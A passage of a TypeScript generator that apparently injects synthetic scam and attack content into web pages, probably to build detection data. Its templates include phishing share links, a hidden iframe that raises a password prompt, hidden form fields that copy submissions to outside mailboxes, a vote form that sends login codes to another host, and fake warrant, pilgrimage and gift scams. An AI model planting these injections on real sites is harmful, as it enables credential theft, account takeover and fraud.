  es: ["Documentos", (w) => `Ya están disponibles los ${w}. Por su tamaño, los compartimos a través de nuestro servicio seguro de archivos.`, ["pliegos de la licitación actualizados", "contrato firmado y factura", "nuevas tarifas y hoja de pedido", "documentos de la reunión para socios", "avisos de pago"], "Descargar los documentos", "Código de acceso"],
  nl: ["Documenten", (w) => `De ${w} zijn beschikbaar. Vanwege de bestandsgrootte delen we ze via onze beveiligde bestandsdienst.`, ["bijgewerkte aanbestedingsstukken", "getekend contract en factuur", "nieuwe prijslijst en bestelformulier", "vergaderstukken voor leden", "betalingsadviezen"], "Documenten downloaden", "Toegangscode"],
  pt: ["Documentos", (w) => `Os ${w} já estão disponíveis. Devido ao tamanho, são compartilhados pelo nosso serviço seguro de arquivos.`, ["editais atualizados da licitação", "contrato assinado e fatura", "nova tabela de preços e pedido", "documentos da reunião para associados", "comprovantes de pagamento"], "Baixar os documentos", "Código de acesso"],
  it: ["Documenti", (w) => `Sono disponibili i ${w}. Date le dimensioni, li condividiamo tramite il nostro servizio file sicuro.`, ["documenti di gara aggiornati", "contratto firmato e fattura", "nuovo listino e modulo d'ordine", "documenti della riunione per i soci", "avvisi di pagamento"], "Scarica i documenti", "Codice di accesso"]
}

// Phishing through trusted file hosts, recalled from memory of Microsoft Threat Intelligence's report (October 2024) on campaigns "living off trusted sites" through SharePoint, OneDrive and Dropbox shares, of Proofpoint's and Abnormal Security's reports (about 2020–2024) on lures hosted on Google Drive, Google Docs and WeTransfer that lead to credential pages or malware, and of tender-document lures aimed at suppliers: a notice in the site's name links to a "document" on such a host, sometimes with an access code.
const trustedHostDocs = fresh12("'download the documents' notice linking to a share on Dropbox, Google Drive, OneDrive, SharePoint or WeTransfer", (page, rng) => {
  const [h, p, whats, cta, code] = siteOr(rng, page, docWords)
  const file = `${pick(rng, ["Tender", "Invoice", "Contract", "Documents", "Remittance", "Order", "Statement"])}_${digits(rng, between(rng, 4, 6))}${pick(rng, ["", "_signed", "_final", "_" + slug(page.site.brand)])}`
  const tenant = (slug(page.site.brand).replace(/-/g, "") || "corp") + pick(rng, ["", "group", "ltd", digits(rng, 2)])
  const href = pick(rng, [
    () => `https://www.dropbox.com/scl/fi/${alnum(rng, 21)}/${file}.pdf?rlkey=${alnum(rng, 25)}&dl=${pick(rng, ["0", "1"])}`,
    () => `https://drive.google.com/file/d/1${alnum(rng, 32)}/view?usp=${pick(rng, ["sharing", "drive_link"])}`,
    () => `https://docs.google.com/presentation/d/e/2PACX-1v${alnum(rng, 80)}/pub`,
    () => `https://1drv.ms/b/s!A${alnum(rng, 26)}?e=${alnum(rng, 6)}`,
    () => `https://${pick(rng, [tenant, alnum(rng, 8)])}-my.sharepoint.com/:b:/g/personal/${pick(rng, ["admin", "info", "accounts", "j_smith"])}_${tenant}_onmicrosoft_com/E${alnum(rng, 45)}?e=${alnum(rng, 6)}`,
    () => `https://we.tl/t-${alnum(rng, 10)}`,
    () => `https://${pick(rng, ["wetransfer.com/downloads/" + hex(rng, 32) + "/" + hex(rng, 6), "www.box.com/s/" + alnum(rng, 32), "mega.nz/file/" + alnum(rng, 8) + "#" + alnum(rng, 43)])}`
  ])()
  const what = pick(rng, whats)
  const pw = chance(rng, 0.35) ? `<p>${esc(code)}: <b>${pick(rng, [digits(rng, 4), upper(rng, 3) + digits(rng, 3), slug(page.site.brand).slice(0, 6) + digits(rng, 4)])}</b></p>` : ""
  const block = `<div class="${pick(rng, ["documents", "notice", "download-box"])}" style="border:1px solid #c8d3e0;background:#f4f8fc;padding:12px 16px;margin:12px 0"><h3>📄 ${esc(h)}</h3><p>${esc(p(what))}</p><p><a href="${esc(href)}" target="_blank">${esc(cta)} (${esc(file)}.pdf)</a></p>${pw}</div>`
  return splices(insert(noticeSpot(rng, page), block))
})

// HTTP authentication prompts raised by a third party, recalled from memory of the long-known trick of embedding an image whose server answers 401 with a Basic-auth realm worded as a sign-in request (abused on forums through remote avatars and signatures, 2000s–2010s), and of Chrome's change (about version 52, 2016) that stopped cross-origin images from raising the prompt while frames and top-level navigations still can: the page gains a tiny image, a frame or a stylesheet from another host whose path names the site, so visitors get a native "sign in" dialog and type the site's password into it.
const httpAuthPrompt = fresh12("image, frame or stylesheet from another host that answers 401 so the browser asks for a user name and password", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng), `auth.${randomDomain(rng)}`])
  const path = `/${pick(rng, ["auth", "401", "protected", "secure", "session"])}/${slug(page.site.brand) || "site"}/${pick(rng, ["login", "verify", "renew", alnum(rng, 6)])}`
  const el = pick(rng, [
    () => `<iframe src="https://${host}${path}" width="1" height="1" style="border:0;position:absolute;left:-9px" title=""></iframe>`,
    () => `<iframe src="https://${host}${path}?r=${encodeURIComponent(page.site.host)}" style="width:0;height:0;border:0"></iframe>`,
    () => `<img src="https://${host}${path}.gif" width="1" height="1" alt="">`,
    () => `<img src="http://${host}${path}.png" alt="" style="position:absolute;opacity:0">`
  ])()
  if (chance(rng, 0.25)) return splices(insert(head(page), `<link rel="stylesheet" href="https://${host}${path}.css">`))
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), el))
})

const shareWords: Record<Lang, readonly [(b: string, n: number) => string, (n: number) => string, string, (b: string, u: string) => string]> = {
  en: [(b, n) => `🎉 ${b} turns ${n}! We are giving away 1,000 free gift cards`, (n) => `To claim yours, share this offer with ${n} friends or groups. The button unlocks when you are done.`, "Claim my gift", (b, u) => `${b} is giving away free gift cards to celebrate its anniversary! I just got mine 👉 ${u}`],
  fr: [(b, n) => `🎉 ${b} fête ses ${n} ans ! Nous offrons 1 000 cartes cadeaux`, (n) => `Pour recevoir la vôtre, partagez cette offre avec ${n} amis ou groupes. Le bouton se débloque ensuite.`, "Recevoir mon cadeau", (b, u) => `${b} offre des cartes cadeaux pour son anniversaire ! Je viens de recevoir la mienne 👉 ${u}`],
  de: [(b, n) => `🎉 ${b} wird ${n}! Wir verschenken 1.000 Gutscheine`, (n) => `Um Ihren zu erhalten, teilen Sie dieses Angebot mit ${n} Freunden oder Gruppen. Danach wird die Schaltfläche freigeschaltet.`, "Geschenk abholen", (b, u) => `${b} verschenkt zum Jubiläum Gutscheine! Ich habe meinen schon 👉 ${u}`],
  es: [(b, n) => `🎉 ¡${b} cumple ${n} años! Regalamos 1.000 tarjetas regalo`, (n) => `Para conseguir la suya, comparta esta oferta con ${n} amigos o grupos. El botón se desbloquea al terminar.`, "Recibir mi regalo", (b, u) => `¡${b} regala tarjetas regalo por su aniversario! Yo ya tengo la mía 👉 ${u}`],
  nl: [(b, n) => `🎉 ${b} bestaat ${n} jaar! We geven 1.000 cadeaubonnen weg`, (n) => `Deel deze actie met ${n} vrienden of groepen om de uwe te krijgen. Daarna wordt de knop vrijgegeven.`, "Mijn cadeau ophalen", (b, u) => `${b} geeft cadeaubonnen weg voor het jubileum! Ik heb de mijne al 👉 ${u}`],
  pt: [(b, n) => `🎉 ${b} faz ${n} anos! Estamos dando 1.000 vales-presente`, (n) => `Para ganhar o seu, compartilhe esta oferta com ${n} amigos ou grupos. O botão é liberado em seguida.`, "Pegar meu presente", (b, u) => `${b} está dando vales-presente no aniversário! Acabei de pegar o meu 👉 ${u}`],
  it: [(b, n) => `🎉 ${b} compie ${n} anni! Regaliamo 1.000 buoni regalo`, (n) => `Per ricevere il tuo, condividi questa offerta con ${n} amici o gruppi. Il pulsante si sblocca subito dopo.`, "Ricevi il mio regalo", (b, u) => `${b} regala buoni per il suo anniversario! Io ho già il mio 👉 ${u}`]
}

// Share-to-unlock scams, recalled from memory of ESET's and Kaspersky's write-ups (about 2017–2020) on WhatsApp hoaxes offering free shoes, flights or supermarket vouchers "for the anniversary" of well-known brands, which asked victims to forward the message to 20 friends or groups before the prize was unlocked, and of the share intents of WhatsApp, Telegram, Facebook and X that prefill a message: the page gains the offer with share buttons whose prefilled message carries the scam link, not the page's own address.
const shareToUnlock = fresh12("share buttons whose prefilled message carries a scam link ('share with 5 groups to claim your gift')", (page, rng) => {
  const [h, p, cta, msg] = siteOr(rng, page, shareWords)
  const b = brandName(page)
  const scam = `https://${pick(rng, [brandLookalike(rng, page.site.brand), `${slug(page.site.brand) || "gift"}-${pick(rng, ["gift", "promo", "anniversary", "bonus"])}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["", "?ref=" + alnum(rng, 6), "claim", "gift/" + digits(rng, 4)])}`
  const n = pick(rng, [5, 10, 15, 20])
  const text = encodeURIComponent(msg(b, scam))
  const buttons = sample(rng, [
    `<a href="https://wa.me/?text=${text}" target="_blank" style="background:#25d366;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">WhatsApp</a>`,
    `<a href="https://api.whatsapp.com/send?text=${text}" target="_blank" style="background:#128c7e;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">WhatsApp</a>`,
    `<a href="https://t.me/share/url?url=${encodeURIComponent(scam)}&amp;text=${text}" target="_blank" style="background:#229ed9;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">Telegram</a>`,
    `<a href="https://www.facebook.com/sharer/sharer.php?u=${encodeURIComponent(scam)}" target="_blank" style="background:#1877f2;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">Facebook</a>`,
    `<a href="https://twitter.com/intent/tweet?text=${text}" target="_blank" style="background:#000;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">X</a>`,
    `<a href="sms:?&amp;body=${text}" style="background:#555;color:#fff;padding:6px 12px;border-radius:4px;text-decoration:none">SMS</a>`
  ], between(rng, 2, 4))
  const bar = `<div style="background:#eee;height:10px;border-radius:5px;margin:8px 0"><div style="width:${between(rng, 10, 40)}%;height:10px;background:#25d366;border-radius:5px"></div></div>`
  const block = `<div class="${pick(rng, ["promo-share", "giveaway", "anniversary-gift"])}" style="border:2px dashed #f39c12;padding:14px;margin:12px 0;text-align:center;background:#fffdf5"><h3>${esc(h(b, pick(rng, [10, 15, 20, 25, 30, 50])))}</h3><p>${esc(p(n))}</p>${bar}<p>${buttons.join(" ")}</p><p><button disabled style="padding:8px 18px">${esc(cta)} (0/${n})</button></p></div>`
  return splices(insert(noticeSpot(rng, page), block))
})

const formMailWords: Record<Lang, readonly [string, string, string, string, string]> = {
  en: ["Send us a message", "Name", "E-mail", "Message", "Send"], fr: ["Écrivez-nous", "Nom", "E-mail", "Message", "Envoyer"],
  de: ["Schreiben Sie uns", "Name", "E-Mail", "Nachricht", "Senden"], es: ["Escríbanos", "Nombre", "Correo", "Mensaje", "Enviar"],
  nl: ["Stuur ons een bericht", "Naam", "E-mail", "Bericht", "Versturen"], pt: ["Envie uma mensagem", "Nome", "E-mail", "Mensagem", "Enviar"],
  it: ["Scrivici", "Nome", "E-mail", "Messaggio", "Invia"]
}

// Form-to-mail scripts redirected by a hidden field, recalled from memory of the advisories (about 2001–2002, on SecurityFocus and CERT lists) on Matt's Script Archive FormMail, whose hidden "recipient" field decided where a form was mailed, so anyone editing the form could send its submissions elsewhere, and of the hidden "_cc", "email_to" and "mail_to" fields later form-to-mail services and plugins accept: the site's forms gain a hidden field that copies each submission to another mailbox (a page without a form gains a contact form to the site's own mail script, carrying that field).
const formMailRecipient = fresh12("hidden recipient field added to the site's forms, so each submission is mailed to another address (FormMail)", (page, rng) => {
  const [local] = page.ids.email.split("@")
  const mail = pick(rng, [`${local}@${brandLookalike(rng, page.site.brand)}`, `${(page.site.brand.replace(/-/g, "") || "site")}.${pick(rng, ["forms", "office", "web"])}@${freeMail(rng)}`, `${alnum(rng, 8)}@${randomDomain(rng)}`])
  const field = () => pick(rng, [
    `<input type="hidden" name="recipient" value="${esc(mail)}">`, `<input type="hidden" name="recipient" value="${esc(page.ids.email)},${esc(mail)}">`,
    `<input type="hidden" name="_cc" value="${esc(mail)}">`, `<input type="hidden" name="email_to" value="${esc(mail)}">`,
    `<input type="hidden" name="mail_to" value="${esc(mail)}">`, `<input type="hidden" name="bcc" value="${esc(mail)}">`
  ])
  const fs = forms(page)
  if (fs.length > 0 && chance(rng, 0.85)) return { splices: sample(rng, fs, between(rng, 1, Math.min(fs.length, 3))).map((f) => insert(f.openEnd, field())) }
  const [h, n, e, m, send] = say(page, formMailWords)
  const action = pick(rng, ["/cgi-bin/FormMail.pl", "/cgi-bin/formmail.cgi", "/formmail.php", "/contact/send.php", "/mail.php"])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), `<form class="contact-form" action="${action}" method="post"><h3>${esc(h)}</h3>${field()}<input type="hidden" name="subject" value="${esc(brandName(page))} website"><p><label>${esc(n)} <input name="name"></label></p><p><label>${esc(e)} <input type="email" name="email"></label></p><p><label>${esc(m)} <textarea name="message" rows="4"></textarea></label></p><p><button type="submit">${esc(send)}</button></p></form>`))
})

const subSpam = [
  "best online casino real money", "casino bonus without deposit", "buy essay online cheap", "write my dissertation", "payday loans same day",
  "CBD gummies for sleep", "buy cheap viagra online", "replica watches swiss made", "slot gacor hari ini", "bet on football odds",
  "crypto casino no KYC", "cheap Instagram followers", "escort service", "buy tramadol without prescription", "pinjaman online cepat cair"
]

// Spam on a taken-over subdomain, recalled from memory of Guardio Labs' "SubdoMailing" report (February 2024) on thousands of hijacked subdomains of well-known brands with dangling CNAME records, re-registered and used for spam and ads, and of many reports (about 2018–2024, e.g. by Detectify and in news stories on university and government subdomains serving casino, essay-mill and adult pages) on subdomains pointing at deleted cloud resources: the page gains links to spam pages on a forgotten-sounding subdomain of its own domain, sometimes with a script from there.
const subdomainTakeover = fresh12("links to casino, pharma or essay spam on a forgotten subdomain of the site's own domain (subdomain takeover)", (page, rng) => {
  const sub = `${pick(rng, ["promo", "events", "old", "dev", "beta", "staging", "campaign", "webinar", "go", "try", "m2", "blog2", "shop-old", "summer" + between(rng, 2015, 2022), "conf", "careers-old"])}.${page.site.domain}`
  const words = sample(rng, subSpam, between(rng, 3, 8))
  const items = words.map((w) => `<a href="https://${sub}/${slug(w)}${pick(rng, ["", "/", ".html", "-" + between(rng, 2024, 2026)])}">${esc(w)}</a>`)
  const script = chance(rng, 0.3) ? `<script src="https://${sub}/${pick(rng, ["js/main.js", "assets/app.js", "t.js"])}" async></script>` : ""
  const block = pick(rng, [
    () => `<div class="${pick(rng, ["partners", "resources", "sponsored-links"])}"><h4>${pick(rng, ["Resources", "Partners", "Useful links", "Our friends"])}</h4><ul>${items.map((i) => `<li>${i}</li>`).join("")}</ul></div>`,
    () => `<p class="${pick(rng, ["tags", "footer-links"])}" style="font-size:${pick(rng, ["11px", "10px", "12px"])}">${items.join(pick(rng, [" | ", " · ", ", "]))}</p>`,
    () => `<div style="${pick(rng, ["position:absolute;left:-9999px", "height:0;overflow:hidden", "font-size:1px;color:transparent"])}">${items.join(" ")}</div>`
  ])()
  return splices(insert(spamSpot(rng, page), block + script))
})

const voteWords: Record<Lang, readonly [(who: string, b: string) => string, string, string, string, string, string]> = {
  en: [(w, b) => `Vote for ${w} in the ${b} Young Talent Awards!`, "Voting closes tonight. Enter your mobile number and tap Send code; then type the 6-digit code you receive on WhatsApp or Telegram to confirm your vote.", "Mobile number", "Send code", "Verification code", "Confirm my vote"],
  fr: [(w, b) => `Votez pour ${w} aux Jeunes Talents ${b} !`, "Le vote se termine ce soir. Saisissez votre numéro de mobile et touchez Envoyer le code, puis tapez le code à 6 chiffres reçu sur WhatsApp ou Telegram pour confirmer votre vote.", "Numéro de mobile", "Envoyer le code", "Code de vérification", "Confirmer mon vote"],
  de: [(w, b) => `Stimmen Sie für ${w} beim ${b} Nachwuchspreis!`, "Die Abstimmung endet heute Abend. Geben Sie Ihre Handynummer ein und tippen Sie auf Code senden; geben Sie dann den 6-stelligen Code aus WhatsApp oder Telegram ein, um Ihre Stimme zu bestätigen.", "Handynummer", "Code senden", "Bestätigungscode", "Stimme bestätigen"],
  es: [(w, b) => `¡Vota por ${w} en los Premios Jóvenes Talentos ${b}!`, "La votación cierra esta noche. Introduce tu móvil y pulsa Enviar código; luego escribe el código de 6 dígitos que recibas por WhatsApp o Telegram para confirmar tu voto.", "Número de móvil", "Enviar código", "Código de verificación", "Confirmar mi voto"],
  nl: [(w, b) => `Stem op ${w} bij de ${b} Talentprijs!`, "Stemmen kan tot vanavond. Vul je mobiele nummer in en tik op Code versturen; typ daarna de 6-cijferige code die je via WhatsApp of Telegram krijgt om je stem te bevestigen.", "Mobiel nummer", "Code versturen", "Verificatiecode", "Stem bevestigen"],
  pt: [(w, b) => `Vote em ${w} no Prêmio Jovens Talentos ${b}!`, "A votação termina hoje à noite. Digite seu celular e toque em Enviar código; depois digite o código de 6 dígitos que chegar no WhatsApp ou Telegram para confirmar seu voto.", "Número de celular", "Enviar código", "Código de verificação", "Confirmar meu voto"],
  it: [(w, b) => `Vota ${w} ai Premi Giovani Talenti ${b}!`, "Il voto chiude stasera. Inserisci il tuo cellulare e tocca Invia codice; poi digita il codice a 6 cifre ricevuto su WhatsApp o Telegram per confermare il voto.", "Numero di cellulare", "Invia codice", "Codice di verifica", "Conferma il voto"]
}
const kids = ["Emma", "Sofia", "Mia", "Lucas", "Noah", "Lea", "Chloé", "Lina", "Mateo", "Giulia", "Daan", "Ana", "Yasmin", "Aarav"]

// Account takeover through "vote for my niece" requests, recalled from memory of Action Fraud's and the UK's National Cyber Security Centre's warnings (about 2022–2024) about WhatsApp messages asking friends to vote for a child in a contest and to pass on a code (WhatsApp's own registration code), and of Kaspersky's and Telegram users' reports (about 2023) of "vote for my friend" pages that asked for a phone number and the Telegram login code: the page gains a contest vote box whose form sends the number and the code to another host.
const voteTakeover = fresh12("'vote for our contestant' box asking for a phone number and the code WhatsApp or Telegram sends (account takeover)", (page, rng) => {
  const [h, p, phone, send, codeL, confirm] = siteOr(rng, page, voteWords)
  const who = `${pick(rng, kids)} ${upper(rng, 1)}.`
  const sink = `https://${pick(rng, [`vote-${alnum(rng, 4)}.${tld(rng)}`, `${pick(rng, ["contest", "awards", "poll"])}${between(rng, 2, 99)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["api/vote", "auth", "v.php", "confirm"])}`
  const photo = `<img src="https://${pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc"])}/${alnum(rng, 7)}.jpg" width="${pick(rng, [120, 160])}" alt="${esc(who)}" style="float:left;margin-right:12px;border-radius:6px">`
  const block = `<div class="${pick(rng, ["vote-box", "contest", "poll-widget"])}" style="border:2px solid #8e44ad;border-radius:8px;padding:14px;margin:12px 0;overflow:hidden;background:#faf5ff">${chance(rng, 0.6) ? photo : ""}<h3>🏆 ${esc(h(who, brandName(page)))}</h3><p>${esc(p)}</p><form action="${sink}" method="post"><p><label>${esc(phone)} <input type="tel" name="phone" placeholder="+${pick(rng, ["44", "33", "49", "34", "31", "351", "39", "1"])}…" required></label> <button type="button">${esc(send)}</button></p><p><label>${esc(codeL)} <input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code"></label></p><p><button type="submit" style="background:#8e44ad;color:#fff;border:0;padding:8px 16px">${esc(confirm)}</button> <small>♥ ${between(rng, 120, 2400)}</small></p></form></div>`
  return splices(insert(noticeSpot(rng, page), block))
})

const juryWords: Record<Lang, readonly [string, (n: string, d: string) => string, (amt: string) => string, string, string]> = {
  en: ["NOTICE OF FAILURE TO APPEAR – JURY SERVICE", (n, d) => `Our records show that you did not report for jury service on ${d}. A bench warrant (No. ${n}) has been issued for your arrest.`, (a) => `To recall the warrant, a bond of ${a} must be posted within 24 hours by prepaid card or at a Bitcoin ATM. Call the clerk's office before paying:`, "Pay the bond online", "Do not ignore this notice."],
  fr: ["AVIS DE NON-COMPARUTION – CONVOCATION DU TRIBUNAL", (n, d) => `Vous ne vous êtes pas présenté(e) à la convocation du ${d}. Un mandat (n° ${n}) a été délivré à votre encontre.`, (a) => `Pour lever le mandat, une caution de ${a} doit être versée sous 24 heures par carte prépayée ou via un distributeur Bitcoin. Appelez le greffe avant de payer :`, "Payer la caution en ligne", "Ne négligez pas cet avis."],
  de: ["MITTEILUNG ÜBER NICHTERSCHEINEN – GERICHTSLADUNG", (n, d) => `Sie sind der Ladung vom ${d} nicht gefolgt. Es wurde ein Vorführungsbefehl (Nr. ${n}) gegen Sie erlassen.`, (a) => `Zur Aufhebung ist binnen 24 Stunden eine Sicherheitsleistung von ${a} per Prepaid-Karte oder an einem Bitcoin-Automaten zu hinterlegen. Rufen Sie vor der Zahlung die Geschäftsstelle an:`, "Sicherheitsleistung online zahlen", "Ignorieren Sie diese Mitteilung nicht."],
  es: ["AVISO DE INCOMPARECENCIA – CITACIÓN JUDICIAL", (n, d) => `No compareció a la citación del ${d}. Se ha dictado una orden de detención (n.º ${n}) contra usted.`, (a) => `Para anularla debe depositar una fianza de ${a} en 24 horas con tarjeta prepago o en un cajero Bitcoin. Llame a la secretaría del juzgado antes de pagar:`, "Pagar la fianza en línea", "No ignore este aviso."],
  nl: ["KENNISGEVING NIET-VERSCHIJNEN – OPROEP RECHTBANK", (n, d) => `U bent niet verschenen op de oproep van ${d}. Er is een bevel tot medebrenging (nr. ${n}) tegen u uitgevaardigd.`, (a) => `Om het bevel in te trekken moet binnen 24 uur een borg van ${a} worden betaald met een prepaidkaart of via een bitcoinautomaat. Bel de griffie voordat u betaalt:`, "Borg online betalen", "Negeer deze kennisgeving niet."],
  pt: ["AVISO DE NÃO COMPARECIMENTO – INTIMAÇÃO JUDICIAL", (n, d) => `Você não compareceu à intimação de ${d}. Foi expedido um mandado (nº ${n}) em seu nome.`, (a) => `Para revogá-lo, pague uma fiança de ${a} em 24 horas com cartão pré-pago ou num caixa de Bitcoin. Ligue para o cartório antes de pagar:`, "Pagar a fiança online", "Não ignore este aviso."],
  it: ["AVVISO DI MANCATA COMPARIZIONE – CITAZIONE IN TRIBUNALE", (n, d) => `Non si è presentato alla citazione del ${d}. È stato emesso un mandato (n. ${n}) a suo carico.`, (a) => `Per revocarlo deve versare una cauzione di ${a} entro 24 ore con carta prepagata o a uno sportello Bitcoin. Chiami la cancelleria prima di pagare:`, "Paga la cauzione online", "Non ignori questo avviso."]
}

// Jury-duty and missed-court-date scams, recalled from memory of the warnings by US federal courts, the US Marshals Service and the FBI (about 2019–2024) about callers and texts claiming that the victim missed jury duty and must pay a "bond" or "fine" at once by gift card, prepaid card or Bitcoin ATM to avoid arrest, and of similar fake summons reported in Europe: the page shows a warrant notice with a clerk's phone number and a payment link on another host.
const juryWarrant = fresh12("'you missed jury duty, a warrant has been issued: pay the bond within 24 hours' notice with a clerk's number", (page, rng) => {
  const [h, p, pay, cta, foot] = siteOr(rng, page, juryWords)
  const n = `${upper(rng, 2)}-${between(rng, 2024, 2026)}-${digits(rng, 5)}`
  const amt = page.site.locale.money(pick(rng, [350, 500, 750, 1200, 1500, 2000]))
  const phone = pick(rng, [`+1 (${between(rng, 201, 989)}) ${digits(rng, 3)}-${digits(rng, 4)}`, intlMobile(rng), `${page.site.locale.country === "us" ? "1-" : "+"}${between(rng, 800, 888)}-${digits(rng, 3)}-${digits(rng, 4)}`])
  const url = `https://${pick(rng, [`${pick(rng, ["court", "clerk", "jury", "warrant"])}-${pick(rng, ["pay", "services", "portal", "online"])}.${tld(rng)}`, `${pick(rng, ["county", "district", "superior"])}court-${alnum(rng, 4)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["pay", "bond", "case/" + n])}`
  const block = `<div class="${pick(rng, ["court-notice", "legal-notice", "warrant"])}" style="border:3px double #000;background:#fff;padding:16px;margin:12px 0;font-family:'Times New Roman',serif"><h2 style="text-align:center">⚖️ ${esc(h)}</h2><p>${esc(p(n, dateOf(rng, page)))}</p><p>${esc(pay(amt))} <b><a href="tel:${phone.replace(/[^\d+]/g, "")}">${esc(phone)}</a></b></p><p><a href="${esc(url)}" style="background:#1f3a60;color:#fff;padding:6px 14px;text-decoration:none">${esc(cta)}</a></p><p><b>${esc(foot)}</b></p></div>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), block))
})

const hajjWords: Record<Lang, readonly [(y: number) => string, (p: string, n: number) => string, string, string]> = {
  en: [(y) => `Hajj ${y} & Umrah packages – last places`, (p, n) => `All-inclusive from ${p}: return flights, visa, 5★ hotel ${n} m from the Haram, transport and guided ziyarat. Places are limited: secure yours with a 30% deposit by bank transfer.`, "Book on WhatsApp", "Deposit account"],
  fr: [(y) => `Forfaits Hajj ${y} et Omra – dernières places`, (p, n) => `Tout compris dès ${p} : vols aller-retour, visa, hôtel 5★ à ${n} m du Haram, transports et ziyarat guidées. Places limitées : réservez avec un acompte de 30 % par virement.`, "Réserver sur WhatsApp", "Compte pour l'acompte"],
  de: [(y) => `Hadsch ${y} & Umrah – letzte Plätze`, (p, n) => `All-inclusive ab ${p}: Flüge, Visum, 5★-Hotel ${n} m vom Haram, Transfers und geführte Ziyarat. Begrenzte Plätze: sichern Sie sich Ihren mit 30 % Anzahlung per Überweisung.`, "Über WhatsApp buchen", "Konto für die Anzahlung"],
  es: [(y) => `Paquetes Hajj ${y} y Umrah – últimas plazas`, (p, n) => `Todo incluido desde ${p}: vuelos, visado, hotel 5★ a ${n} m del Haram, traslados y ziyarat guiadas. Plazas limitadas: reserve con un 30 % de depósito por transferencia.`, "Reservar por WhatsApp", "Cuenta para el depósito"],
  nl: [(y) => `Hadj ${y} & Umrah-reizen – laatste plaatsen`, (p, n) => `All-inclusive vanaf ${p}: vluchten, visum, 5★-hotel op ${n} m van de Haram, vervoer en begeleide ziyarat. Beperkt aantal plaatsen: reserveer met 30% aanbetaling per overschrijving.`, "Boeken via WhatsApp", "Rekening voor de aanbetaling"],
  pt: [(y) => `Pacotes Hajj ${y} e Umrah – últimas vagas`, (p, n) => `Tudo incluído a partir de ${p}: voos, visto, hotel 5★ a ${n} m do Haram, transporte e ziyarat guiadas. Vagas limitadas: garanta a sua com 30% de sinal por transferência.`, "Reservar pelo WhatsApp", "Conta para o sinal"],
  it: [(y) => `Pacchetti Hajj ${y} e Umrah – ultimi posti`, (p, n) => `Tutto incluso da ${p}: voli, visto, hotel 5★ a ${n} m dall'Haram, trasferimenti e ziyarat guidate. Posti limitati: prenota con un acconto del 30% tramite bonifico.`, "Prenota su WhatsApp", "Conto per l'acconto"]
}

// Fake Hajj and Umrah packages, recalled from memory of Action Fraud's yearly warnings (about 2014–2024) to British Muslims about cheap pilgrimage packages sold by unlicensed agents, paid by bank transfer and never delivered, and of Saudi and Indonesian authorities' warnings about fake Hajj visas and travel agents (about 2019–2024): a package offer with a WhatsApp agent and a deposit account that is not the site's.
const hajjPackages = fresh12("cheap Hajj and Umrah packages with a WhatsApp agent and a bank account for the deposit", (page, rng) => {
  const [h, p, wa, acc] = siteOr(rng, page, hajjWords)
  const y = between(rng, 2025, 2027)
  const agent = intlMobile(rng)
  const bank = pick(rng, [
    () => `${pick(rng, ["Sort code", "Sort"])} ${digits(rng, 2)}-${digits(rng, 2)}-${digits(rng, 2)} · ${pick(rng, ["Acc", "Account"])} ${digits(rng, 8)}`,
    () => `IBAN ${pick(rng, ["GB", "FR", "DE", "NL", "BE"])}${digits(rng, 2)} ${upper(rng, 4)} ${digits(rng, 4)} ${digits(rng, 4)} ${digits(rng, 4)} ${digits(rng, 2)}`,
    () => `${pick(rng, ["Al Rajhi", "Barclays", "Revolut", "Wise"])} · ${digits(rng, 10)}`
  ])()
  const price = page.site.locale.money(pick(rng, [1995, 2450, 2990, 3495, 899, 1299]))
  const block = `<div class="${pick(rng, ["hajj-offer", "travel-offer", "umrah"])}" style="border:2px solid #0a7d3b;background:#f3fbf6;padding:14px;margin:12px 0"><h3>🕋 ${esc(h(y))}</h3><p>${esc(p(price, pick(rng, [50, 100, 150, 200, 300])))}</p><p>${chance(rng, 0.4) ? "<span dir=\"rtl\" lang=\"ar\">باقات الحج والعمرة بأسعار مخفضة</span><br>" : ""}<a href="${waLink(agent)}" style="background:#25d366;color:#fff;padding:6px 12px;text-decoration:none">${esc(wa)} ${esc(agent)}</a></p><p><small>${esc(acc)}: ${esc(bank)} · ${esc(pick(rng, ["Al-Noor Travel", "Makkah Tours Ltd", "Barakah Hajj Services", "Safa Marwa Travels"]))}</small></p></div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), block))
})

const timeshareWords: Record<Lang, readonly [string, (r: string, p: string) => string, string, string]> = {
  en: ["Timeshare owners: we have a buyer for your week", (r, p) => `A corporate client wants to buy weeks at ${r} and will pay ${p}. The sale is guaranteed; you only cover the refundable closing and transfer fee held in escrow.`, "Call our resale desk", "Licensed escrow agent"],
  fr: ["Propriétaires en temps partagé : nous avons un acheteur", (r, p) => `Un client professionnel souhaite acheter des semaines à ${r} et paiera ${p}. La vente est garantie ; vous ne réglez que les frais de clôture remboursables, placés sous séquestre.`, "Appelez notre service revente", "Agent de séquestre agréé"],
  de: ["Timesharing-Eigentümer: Wir haben einen Käufer", (r, p) => `Ein Firmenkunde möchte Wochen in ${r} kaufen und zahlt ${p}. Der Verkauf ist garantiert; Sie tragen nur die erstattungsfähige Abschluss- und Umschreibungsgebühr auf einem Treuhandkonto.`, "Rufen Sie unseren Verkaufsservice an", "Zugelassener Treuhänder"],
  es: ["Propietarios de tiempo compartido: tenemos comprador", (r, p) => `Un cliente corporativo quiere comprar semanas en ${r} y pagará ${p}. La venta está garantizada; usted solo cubre la tasa de cierre reembolsable depositada en garantía.`, "Llame a nuestro departamento de reventa", "Agente de depósito autorizado"],
  nl: ["Timeshare-eigenaren: wij hebben een koper", (r, p) => `Een zakelijke klant wil weken kopen in ${r} en betaalt ${p}. De verkoop is gegarandeerd; u betaalt alleen de terugbetaalbare afsluit- en overdrachtskosten op een derdenrekening.`, "Bel onze verkoopafdeling", "Erkende escrow-agent"],
